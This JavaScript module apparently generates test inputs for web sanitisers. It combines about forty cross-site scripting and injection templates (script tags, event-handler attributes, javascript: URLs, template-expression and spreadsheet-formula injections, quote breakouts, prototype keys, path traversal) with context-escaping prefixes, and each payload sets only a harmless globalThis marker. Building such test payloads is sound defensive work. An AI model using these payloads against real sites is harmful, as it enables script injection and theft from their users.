// Texts that run as code where a page takes them for markup, a script, an address or a template: payloads returns n of
// them, each setting globalThis.ran when it does.
const markup = [
  (run) => `<script>${run}</script>`, (run) => `<img src=x onerror=${run}>`, (run) => `<img src=x onerror="${run}">`, (run) => `<svg onload=${run}>`, (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<body onload=${run}>`, (run) => `<iframe srcdoc="<script>parent.${run}</script>">`, (run) => `<iframe src="javascript:parent.${run}">`, (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<details open ontoggle=${run}>`, (run) => `<video><source onerror=${run}>`, (run) => `<audio src=x onerror=${run}>`, (run) => `<input autofocus onfocus=${run}>`, (run) => `<select autofocus onfocus=${run}>`,
  (run) => `<marquee onstart=${run}>`, (run) => `<math><mi xlink:href="javascript:${run}">`, (run) => `<object data="javascript:${run}">`, (run) => `<embed src="javascript:${run}">`, (run) => `<form><button formaction="javascript:${run}">`,
  (run) => `<template><script>${run}</script></template>`, (run) => `<style>@import 'javascript:${run}'</style>`, (run) => `<link rel=stylesheet href="javascript:${run}">`, (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`, (run) => `javascript:${run}`, (run) => `data:text/html,<script>${run}</script>`, (run) => `{{constructor.constructor('${run}')()}}`, (run) => `\${${run}}`, (run) => `';${run};//`, (run) => `");${run};//`,
  (run) => `__proto__`, (run) => `constructor`, (run) => `=HYPERLINK("javascript:${run}")`, (run) => `%3Cscript%3E${run}%3C/script%3E`, (run) => `&lt;script&gt;${run}&lt;/script&gt;`, (run) => `\u202e<script>${run}</script>`, (run) => `<scr\u0000ipt>${run}</script>`,
  (run) => `../../${run}`, (run) => `#/../<img src=x onerror=${run}>`, (run) => `<x onpointerover=${run} style="position:fixed;inset:0">`,
];
const around = [(text) => text, (text) => `">${text}`, (text) => `'>${text}`, (text) => `--></title></textarea></noscript>${text}`, (text) => `A film ${text} (1999)`];

export const payloads = (n = 200) => Array.from({ length: n }, (_, i) => around[Math.floor(i / markup.length) % around.length](markup[i % markup.length](`globalThis.ran=${i + 1}`)));
